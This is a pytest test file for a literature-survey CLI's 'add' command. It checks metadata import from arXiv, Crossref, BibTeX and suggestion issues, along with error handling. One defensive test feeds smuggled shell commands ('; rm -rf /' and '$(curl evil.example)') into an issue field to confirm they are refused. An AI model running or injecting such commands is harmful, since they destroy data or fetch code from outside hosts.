"""`survey add`: a paper file from arXiv, Crossref, BibTeX or a suggestion issue, against recorded
responses in the services' real formats served on 127.0.0.1. No test touches the network."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import ROOT
from services import SERVICES, serve_services
from survey.read.project import Project
from survey.read.reader import read_taxonomy
from survey.render import issueform
from survey.services import newpaper


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    with serve_services() as base:
        yield base


@pytest.fixture
def project(make_project, server: str):
    """The fixture survey, with the services pointed at the local server."""
    def make(arxiv: str = f"{server}/api/query", crossref: str = server, survey: str = "fixture") -> Project:
        return make_project({"pyproject.toml": f'[tool.survey.services]\narxiv = "{arxiv}"\n'
                                               f'crossref = "{crossref}"\ntimeout = 1\n'}, survey=survey)
    return make


def _fill(text: str, project: Project) -> str:
    """What a contributor does next: write a tldr and choose a value for every empty facet."""
    text = text.replace('"One sentence in your own words: what the paper contributes and why a reader would care."',
                        '"A takeaway written by a person."')
    for facet in read_taxonomy(project).facets:
        text = text.replace(f"\n{facet.id}: []\n", f"\n{facet.id}: [{facet.values[0].id}]\n")
    return text


def _files(project: Project) -> set[str]:
    return {p.name for p in project.papers_dir.iterdir()}


@pytest.mark.parametrize("query", ["2401.00001", "arXiv:2401.00001", "arxiv:2401.00001v3",
                                   "https://arxiv.org/abs/2401.00001v2", "https://arxiv.org/pdf/2401.00001v3.pdf"])
def test_an_arxiv_id_in_any_form_writes_the_paper(project, run_cli, query: str) -> None:
    survey = project()
    code, out = run_cli(survey, "add", query, "--topics", "segmentation", "--modalities", "ct,xray")
    assert code == 0, out
    assert out.splitlines()[0] == "✓ wrote papers/test-paper-lung-nodule-detection.yaml from arXiv 2401.00001"
    text = (survey.papers_dir / "test-paper-lung-nodule-detection.yaml").read_text(encoding="utf-8")
    assert text.startswith("# yaml-language-server: $schema=_schema.json\n")
    for line in ['title: "A Test Paper on Lung Nodule Detection in Low-Dose Chest CT with Weakly Supervised Learning"',
                 '  - "Zoë Ørsted"', "year: 2024", "date: 2024-01-01", 'arxiv: "2401.00001"',
                 "  paper: https://arxiv.org/abs/2401.00001", "topics: [segmentation]", "modalities: [ct, xray]",
                 "types: []", "# Values: " + ", ".join(read_taxonomy(survey).facet("types").ids), "added: "]:
        assert line in text, line
    assert "venue:" not in text and "doi:" not in text  # the feed has neither: nothing is invented
    assert "Left to fill in" in out and "tldr: still holds the template's placeholder" in out
    assert "types: is an empty list" in out
    (survey.papers_dir / "test-paper-lung-nodule-detection.yaml").write_text(_fill(text, survey), encoding="utf-8")
    assert run_cli(survey, "check")[0] == 0


def test_doi_and_journal_reference_come_from_the_arxiv_feed(project, run_cli) -> None:
    survey = project(survey="none")
    code, out = run_cli(survey, "add", "2208.05868")
    assert code == 0, out
    paper = (survey.papers_dir / "totalsegmentator.yaml").read_text(encoding="utf-8")
    assert 'venue: "Radiology: Artificial Intelligence 2023"' in paper
    assert 'doi: "10.1148/ryai.230024"' in paper
    assert "date: 2022-08-11" in paper  # the first version's date, not the latest version's
    assert "  - \"Martin Segeroth\"" in paper
    (survey.papers_dir / "totalsegmentator.yaml").write_text(_fill(paper, survey), encoding="utf-8")
    code, out = run_cli(survey, "check")
    assert (code, out) == (0, "✓ 1 paper and the taxonomy are valid\n")


@pytest.mark.parametrize("query", ["10.1000/test.2024.1", "https://doi.org/10.1000/test.2024.1",
                                   "doi:10.1000/test.2024.1"])
def test_a_doi_reads_crossref(project, run_cli, query: str) -> None:
    survey = project()
    code, out = run_cli(survey, "add", query, "--types", "method")
    assert code == 0, out
    text = (survey.papers_dir / "vivo-test-fictional-lesion-segmentation.yaml").read_text(encoding="utf-8")
    assert 'title: "In vivo Test of a Fictional Lesion Segmentation Pipeline"' in text  # the <i> tag is gone
    assert '  - "{The XYZ Consortium}"' in text and '  - "Ana García"' in text  # an organisation has no family name
    assert 'venue: "Medical Image Computing and Computer Assisted Intervention – MICCAI 2024"' in text
    assert 'doi: "10.1000/test.2024.1"' in text and "arxiv:" not in text
    # Crossref has no abstract for it: the required field keeps its placeholder for a person to fill.
    assert "abstract: >-\n  The abstract, as published." in text
    assert "abstract: still holds the template's placeholder" in out


def test_a_journal_doi_gets_the_venue_and_year_and_the_jats_abstract(project, run_cli) -> None:
    survey = project(survey="none")
    code, out = run_cli(survey, "add", "10.1148/ryai.230024")
    assert code == 0, out
    text = next(survey.papers_dir.glob("totalsegmentator*.yaml")).read_text(encoding="utf-8")
    assert 'venue: "Radiology: Artificial Intelligence 2023"' in text
    assert "<jats" not in text and "We present a deep learning segmentation model" in text
    assert "year: 2023" in text


def test_bibtex_is_read_offline_with_latex_made_plain(project, run_cli) -> None:
    survey = project(arxiv="http://127.0.0.1:9/nothing", crossref="http://127.0.0.1:9")
    code, out = run_cli(survey, "add", "--bibtex", str(SERVICES / "example.bib"), "--key", "mueller2023oedemaseg")
    assert code == 0, out
    text = (survey.papers_dir / "oedemaseg.yaml").read_text(encoding="utf-8")
    for line in ['title: "OedemaSeg: Ödem Detection in CT with α-Blending of Synthetic Lesions"',
                 '  - "Jörg Müller"', '  - "Ana García"', '  - "{The XYZ Consortium}"', "date: 2023-07",
                 'venue: "Journal of Fictional Medical Imaging 2023"', 'arxiv: "2307.99999"',
                 'doi: "10.1000/jfmi.2023.0042"', "0.81 ± 0.05"]:
        assert line in text, line
    assert "{" not in text.split("abstract:")[1].split("tldr:")[0]


def test_a_bibtex_file_with_several_entries_needs_a_key(project, run_cli) -> None:
    survey = project()
    code, out = run_cli(survey, "add", "--bibtex", str(SERVICES / "example.bib"))
    assert code == 2
    assert out == (f"survey add: {SERVICES / 'example.bib'} holds 2 entries (mueller2023oedemaseg, "
                   "Garcia2024invivo); choose one with --key (an entry without a key by its number: --key '#2')\n")


@pytest.mark.parametrize(("args", "code", "message"), [
    (["2401.99999"], 2, "survey add: arXiv has no paper 2401.99999; check the id\n"),
    (["2401.99998"], 2, "survey add: arXiv has no paper 2401.99998 (incorrect id format for 1234.567); check the id\n"),
    (["10.1000/unknown"], 2, "survey add: Crossref has no work with the DOI 10.1000/unknown; check the DOI\n"),
    (["not-an-id"], 2, "survey add: 'not-an-id' is neither an arXiv id nor a DOI; give one such as 2208.05868, "
                       "arXiv:2208.05868, 10.1148/ryai.230024 or a link to either\n"),
    (["2401.00001", "--topics", "segmentaton"], 2,
     "survey add: --topics: unknown value 'segmentaton' (did you mean 'segmentation'?)\n"),
])
def test_unknown_or_malformed_ids_write_nothing(project, run_cli, args: list[str], code: int, message: str) -> None:
    survey = project()
    before = _files(survey)
    assert run_cli(survey, "add", *args) == (code, message)
    assert _files(survey) == before


def test_offline_timeouts_and_http_errors_write_nothing(project, run_cli, server: str) -> None:
    for arxiv, message in [
        ("http://127.0.0.1:9/api/query", "survey add: arXiv could not be reached ("),
        (f"{server}/slow/api/query", "survey add: arXiv could not be reached (timed out); check the connection"),
        (f"{server}/broken/api/query", "survey add: arXiv answered HTTP 503 (Service Unavailable); try again later"),
    ]:
        survey = project(arxiv=arxiv)
        before = _files(survey)
        code, out = run_cli(survey, "add", "2401.00001")
        assert code == 3
        assert out.startswith(message), out
        assert len(out.splitlines()) == 1 and "Traceback" not in out
        assert _files(survey) == before


def test_a_paper_already_in_the_survey_is_refused_naming_its_file(project, run_cli) -> None:
    survey = project()  # the fixture survey holds TotalSegmentator
    before = _files(survey)
    code, out = run_cli(survey, "add", "arXiv:2208.05868")
    assert code == 1
    assert out.splitlines()[0] == (
        "papers/totalsegmentator.yaml:18:8: arxiv: arXiv id 2208.05868 is already in the survey; nothing was "
        "written (edit this file instead of adding the paper again)")
    # The journal version has another title and the file no DOI: it is not known to be the same paper,
    # but its id is taken, so nothing is written either.
    code, out = run_cli(survey, "add", "10.1148/ryai.230024")
    assert (code, out) == (2, "survey add: papers/totalsegmentator.yaml already exists; if it is this paper, "
                              "edit that file, otherwise choose another id with --id (at most 80 characters)\n")
    assert _files(survey) == before


def test_an_existing_file_is_never_overwritten(project, run_cli) -> None:
    survey = project()
    (survey.papers_dir / "mine.yaml").write_text("my own notes\n", encoding="utf-8")
    code, out = run_cli(survey, "add", "2401.00001", "--id", "mine")
    assert code == 2
    assert out == ("survey add: papers/mine.yaml already exists; if it is this paper, edit that file, "
                   "otherwise choose another id with --id (at most 80 characters)\n")
    assert (survey.papers_dir / "mine.yaml").read_text(encoding="utf-8") == "my own notes\n"
    code, out = run_cli(survey, "add", "2401.00001", "--id", "Bad Id")
    assert code == 2 and "file name 'Bad Id' is not a valid paper id" in out


@pytest.mark.parametrize(("title", "ident"), [
    ("TotalSegmentator: robust segmentation of 104 anatomical structures in CT images", "totalsegmentator"),
    ("Segment Anything in Medical Images", "segment-anything-medical-images"),
    ("MedSAM 2: Segment Anything in 3D Medical Images and Videos", "medsam-2"),
    ("A very long title about the evaluation of many different self-supervised methods for chest radiographs",
     "very-long-title-about-evaluation"),
    ("Ödem: über Lungen", "odem"),
    ("!!!", "paper"),
])
def test_ids_are_short_readable_slugs_of_the_title(title: str, ident: str) -> None:
    assert newpaper.paper_id(title) == ident


def test_the_issue_form_is_generated_from_the_taxonomy_and_current() -> None:
    taxonomy = read_taxonomy(Project(ROOT))
    committed = (ROOT / ".github" / "ISSUE_TEMPLATE" / "add-paper.yml").read_text(encoding="utf-8")
    assert committed == issueform.form(taxonomy), "run `survey schema` and commit the result"
    for facet in taxonomy.facets:
        assert f"{facet.values[0].title} ({facet.values[0].id})" in committed


def test_a_suggestion_issue_becomes_a_paper_file(project, run_cli, tmp_path: Path) -> None:
    survey = project()
    body = ("### arXiv id or DOI\n\nhttps://arxiv.org/abs/2401.00001v3\n\n"
            "### Topics\n\nSegmentation (segmentation), Made up (not-a-topic)\n\n"
            "### Modalities\n\n_No response_\n\n"
            "### One-sentence takeaway\n\nA detector for lung nodules, <b>tested</b> on fictional scans.\n")
    (tmp_path / "issue.md").write_text(body, encoding="utf-8")
    code, out = run_cli(survey, "add", "--from-issue", str(tmp_path / "issue.md"))
    assert code == 0, out
    text = (survey.papers_dir / "test-paper-lung-nodule-detection.yaml").read_text(encoding="utf-8")
    assert "topics: [segmentation]" in text and "modalities: []" in text
    assert 'tldr: "A detector for lung nodules, <b>tested</b> on fictional scans."' in text  # escaped on the site


def test_a_suggestion_without_an_id_or_with_a_command_in_it_is_refused(project, run_cli, tmp_path: Path) -> None:
    survey = project()
    for answer in ["_No response_", "2401.00001; rm -rf /", "$(curl evil.example)"]:
        (tmp_path / "issue.md").write_text(f"### arXiv id or DOI\n\n{answer}\n", encoding="utf-8")
        code, out = run_cli(survey, "add", "--from-issue", str(tmp_path / "issue.md"))
        assert code == 2, out
    assert not list(survey.papers_dir.glob("test-paper*"))
